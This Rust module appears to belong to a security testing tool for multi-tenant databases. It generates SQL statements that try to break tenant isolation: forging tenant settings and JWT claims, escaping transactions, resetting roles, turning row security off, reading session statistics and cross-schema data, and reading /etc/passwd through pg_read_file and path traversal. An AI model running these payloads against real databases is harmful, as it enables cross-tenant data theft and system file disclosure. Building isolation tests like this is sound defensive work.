//! The statements that are tried.

use super::database::Database;
use crate::site::Party;

/// Statements for a database, as an attacker, against a victim.
pub(super) type Statements = fn(&Database<'_>, &Party, &Party) -> Vec<String>;

/// Settings that carry the tenant in many applications, after those that policies name.
const SETTINGS: [&str; 8] = [
    "app.tenant",
    "app.tenant_id",
    "app.current_tenant",
    "app.current_tenant_id",
    "app.org_id",
    "app.current_org",
    "tenant.id",
    "rls.tenant_id",
];

fn settings(base: &Database<'_>) -> Vec<String> {
    let more = SETTINGS.iter().map(|name| (*name).to_owned()).filter(|name| !base.settings.contains(name));
    base.settings.iter().cloned().chain(more).take(8).collect()
}

/// Each statement with each of the first tables in the place of `{t}`.
fn each_table(base: &Database<'_>, forms: &[&str]) -> Vec<String> {
    base.tables
        .iter()
        .take(3)
        .flat_map(|table| forms.iter().map(move |form| form.replace("{t}", table)))
        .collect()
}

pub(super) const SETTING: Statements = |base, _, _| {
    let mut all = Vec::new();
    for name in &base.names {
        for setting in settings(base) {
            let set = format!("set_config('{setting}', '{name}', true)");
            all.extend(each_table(
                base,
                &[
                    &format!("with s as materialized (select {set} as x) select r.* from s, {{t}} r"),
                    &format!("select r.*, {set} as x from {{t}} r"),
                    &format!("select * from {{t}} where {set} is not null"),
                ],
            ));
        }
        let claims = format!(
            "{{\"tenant\":\"{name}\",\"tenant_id\":\"{name}\",\"org_id\":\"{name}\",\"sub\":\"{name}\"}}"
        );
        all.extend(each_table(
            base,
            &[&format!(
                "with s as materialized (select set_config('request.jwt.claims', '{claims}', true) as x) select r.* from s, {{t}} r"
            )],
        ));
    }
    all.truncate(60);
    all
};

pub(super) const TRANSACTION: Statements = |base, _, _| {
    each_table(
        base,
        &[
            "commit; select * from {t}",
            "rollback; select * from {t}",
            "end; begin; select * from {t}; commit",
            "commit and chain; select * from {t}",
            "savepoint s; rollback to savepoint s; select * from {t}",
            "abort; reset all; select * from {t}",
            "select 1; /* ; */ commit; select * from {t}",
            "do $$ begin commit; end $$; select * from {t}",
        ],
    )
};

pub(super) const ROLE: Statements = |base, _, _| {
    each_table(
        base,
        &[
            "reset role; select * from {t}",
            "set role none; select * from {t}",
            "set local role none; select * from {t}",
            "set role postgres; select * from {t}",
            "set session authorization default; select * from {t}",
            "reset session authorization; select * from {t}",
            "set row_security = off; select * from {t}",
            "select set_config('role', 'none', true); select * from {t}",
            "with s as materialized (select set_config('role', 'none', true) as x) select r.* from s, {t} r",
        ],
    )
};

pub(super) const UPDATE: Statements = |base, _, _| {
    let mut all = Vec::new();
    for column in base.columns.iter().filter(|column| *column != "id").take(3) {
        all.extend(each_table(
            base,
            &[
                &format!("update {{t}} set {column} = {column} returning *"),
                &format!(
                    "with u as (update {{t}} set {column} = {column} where true returning *) select * from u"
                ),
            ],
        ));
    }
    all
};

pub(super) const OBJECTS: Statements = |base, _, _| {
    let mut all: Vec<String> = base
        .tables
        .iter()
        .flat_map(|table| [format!("select * from {table}"), format!("table {table}")])
        .collect();
    let (views, functions) = (
        "select schemaname || '.' || viewname as t, definition from pg_views where schemaname not in ('pg_catalog', 'information_schema')",
        "select n.nspname || '.' || p.proname as t from pg_proc p join pg_namespace n on n.oid = p.pronamespace where n.nspname not in ('pg_catalog', 'information_schema')",
    );
    all.extend([views.to_owned(), functions.to_owned()]);
    all.extend(each_table(
        base,
        &[
            "select t.*, t.tableoid from only {t} t",
            "select * from {t} where true or 1 = 1",
            "select * from {t} union all select * from {t}",
            "select row_to_json(t) as r from {t} t",
            "select string_agg(cast(t as text), ' ') as all_rows from {t} t",
            "select group_concat(t.rowid) as all_rows from {t} t",
            "select * from {t} tablesample system (100)",
        ],
    ));
    all.truncate(60);
    all
};

pub(super) const STATISTICS: Statements = |base, _, _| {
    let mut all: Vec<String> = [
        "select * from pg_stat_activity",
        "select query from pg_stat_activity",
        "select query from pg_stat_statements",
        "select * from pg_locks",
        "select * from pg_prepared_statements",
        "select * from pg_cursors",
        "select * from pg_stats where schemaname not in ('pg_catalog', 'information_schema')",
        "select cast(most_common_vals as text), cast(histogram_bounds as text) from pg_stats where schemaname not in ('pg_catalog', 'information_schema')",
        "select * from pg_stats_ext",
        "select * from pg_sequences",
        "select * from sqlite_stat1",
        "select * from sqlite_stat4",
        "select * from pragma_database_list",
        "select * from information_schema.processlist",
    ]
    .iter()
    .map(|form| (*form).to_owned())
    .collect();
    all.extend(each_table(
        base,
        &["explain select * from {t}", "explain (analyze, verbose) select * from {t}"],
    ));
    all
};

/// Functions that read files of the machine; an account file and a database's folder show that they do.
pub(super) const FILES: [&str; 7] = [
    "select pg_read_file('/etc/passwd') as f",
    "select pg_read_file('../../../../../../etc/passwd') as f",
    "select pg_ls_dir('.') as f",
    "select convert_from(pg_read_binary_file('/etc/passwd'), 'utf8') as f",
    "select readfile('/etc/passwd') as f",
    "select load_file('/etc/passwd') as f",
    "select * from read_csv_auto('/etc/passwd')",
];

/// The same rows by functions that run another statement or reach another database.
pub(super) fn elsewhere(base: &Database<'_>, _: &Party, victim: &Party) -> Vec<String> {
    let mut all = each_table(
        base,
        &[
            "select query_to_xml('select * from {t}', true, false, '') as x",
            "select table_to_xml('{t}', true, false, '') as x",
            "select * from dblink('dbname=postgres', 'select cast(t as text) from {t} t') as r(x text)",
        ],
    );
    all.push("select database_to_xml(true, false, '') as x".to_owned());
    let name: String = victim.tenant.chars().filter(char::is_ascii_alphanumeric).collect();
    for table in base.tables.iter().take(3) {
        let plain = table.rsplit('.').next().unwrap_or(table);
        all.push(format!("select * from {name}.{plain}"));
        all.push(format!("select * from tenant_{name}.{plain}"));
    }
    all
}

pub(super) const CASTS: Statements = |base, _, _| {
    let mut all = Vec::new();
    for column in base.columns.iter().take(4) {
        all.extend(each_table(
            base,
            &[
                &format!("select cast({column} as integer) as n from {{t}}"),
                &format!("select cast(cast({column} as text) as timestamp) as n from {{t}}"),
                &format!("select cast(cast({column} as text) as json) as n from {{t}}"),
            ],
        ));
    }
    all.truncate(36);
    all
};

pub(super) const RESIDUE: Statements = |base, attacker, _| {
    let name = attacker.tenant.replace('\'', "''");
    let mut all = Vec::new();
    for setting in settings(base).iter().take(4) {
        all.push(format!("set {setting} = '{name}'"));
        all.push(format!("select set_config('{setting}', '{name}', false) as x"));
    }
    all.extend(
        [
            "set search_path = pg_temp, public",
            "set role none",
            "begin",
            "set statement_timeout = 60000",
            "listen cnry_channel",
        ]
        .map(str::to_owned),
    );
    all.extend(each_table(
        base,
        &[
            "prepare cnry_statement as select * from {t}",
            "declare cnry_cursor cursor with hold for select * from {t}",
        ],
    ));
    all
};

pub(super) const SHADOW: Statements = |base, _, _| {
    base.tables
        .iter()
        .take(3)
        .flat_map(|table| {
            let plain = table.rsplit('.').next().unwrap_or(table);
            [
                format!("create temp table {plain} as select * from {table}"),
                format!("create temp view {plain} as select * from {table}"),
            ]
        })
        .collect()
};
